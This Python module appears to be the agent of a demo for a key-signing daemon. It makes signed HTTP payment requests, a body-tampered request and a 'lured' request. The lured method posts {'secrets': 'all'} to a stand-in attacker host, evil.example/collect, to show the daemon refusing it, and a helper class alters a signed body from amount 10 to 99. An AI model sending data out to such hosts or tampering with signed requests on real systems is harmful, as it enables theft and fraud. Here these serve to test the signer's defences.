"""The agent of the demo: it holds no key. Every request is signed by the daemon, through the ``httpx`` adapter.

Reads commands from standard input, one a line, and answers each with a line of JSON:
``one`` a signed request, ``tampered`` one whose body is changed on the way, ``lured`` one to where it was talked into sending it, ``start``
and ``stop`` steady traffic.
"""

from __future__ import annotations

import json
import sys
import threading
from collections import Counter
from collections.abc import Callable, Generator
from typing import Any

import httpx

from keyd.client import Client, KeydClientError
from keyd.client.httpx_auth import KeydAuth

Answer = dict[str, Any]


class _Tampering(httpx.Auth):
    """Signs, then changes the body, as somebody on the way might."""

    requires_request_body = True

    def __init__(self, signing: KeydAuth) -> None:
        self._signing = signing

    def sync_auth_flow(self, request: httpx.Request) -> Generator[httpx.Request, httpx.Response, None]:
        flow = self._signing.sync_auth_flow(request)
        signed = next(flow)
        body = signed.content.replace(b'"amount":10', b'"amount":99')
        yield httpx.Request(signed.method, signed.url, headers=signed.headers, content=body)


class Agent:
    """Calls one URL with signed requests."""

    def __init__(self, address: str, url: str) -> None:
        self._url = url
        self._auth = KeydAuth(Client(address), "demo", expires_in=4)  # the retention that the demo is configured with
        self._http = httpx.Client(timeout=10)
        self._stop = threading.Event()
        self._counts: Counter[str] = Counter()
        self._kids: Counter[str] = Counter()
        self._thread: threading.Thread | None = None

    def one(self) -> Answer:
        """Make one signed request."""
        return self._post(self._auth)

    def tampered(self) -> Answer:
        """Make one request whose body is changed after it was signed."""
        return self._post(_Tampering(self._auth))

    def lured(self) -> Answer:
        """Try to make a request to an authority that the agent's grant does not have."""
        try:
            self._http.post("http://evil.example/collect", json={"secrets": "all"}, auth=self._auth)
        except KeydClientError as exc:
            return {"error": exc.reason}
        return {}

    def start(self) -> Answer:
        """Make requests one after another until :meth:`stop`."""
        self._thread = threading.Thread(target=self._work)
        self._thread.start()
        return {}

    def stop(self) -> Answer:
        """Stop the traffic and return how many requests were verified and refused, and under which kids."""
        self._stop.set()
        if self._thread is not None:
            self._thread.join()
        return {"counts": dict(self._counts), "kids": dict(self._kids)}

    def _work(self) -> None:
        while not self._stop.is_set():
            answer = self.one()
            self._counts["verified" if answer["status"] == 200 else "refused"] += 1
            if answer.get("kid"):
                self._kids[answer["kid"]] += 1

    def _post(self, auth: httpx.Auth) -> Answer:
        try:
            response = self._http.post(self._url, json={"pay": "alice", "amount": 10}, auth=auth)
            return {"status": response.status_code, **response.json()}
        except Exception as exc:  # noqa: BLE001 - any failure is a failed request, and counts as one
            return {"status": 0, "error": f"{type(exc).__name__}: {exc}"}


def main(address: str, url: str) -> None:
    """Obey standard input."""
    agent = Agent(address, url)
    commands: dict[str, Callable[[], Answer]] = {
        "one": agent.one,
        "tampered": agent.tampered,
        "lured": agent.lured,
        "start": agent.start,
        "stop": agent.stop,
    }
    for line in sys.stdin:
        print(json.dumps(commands[line.strip()]()), flush=True)  # noqa: T201 - the conductor reads it


if __name__ == "__main__":
    main(*sys.argv[1:])
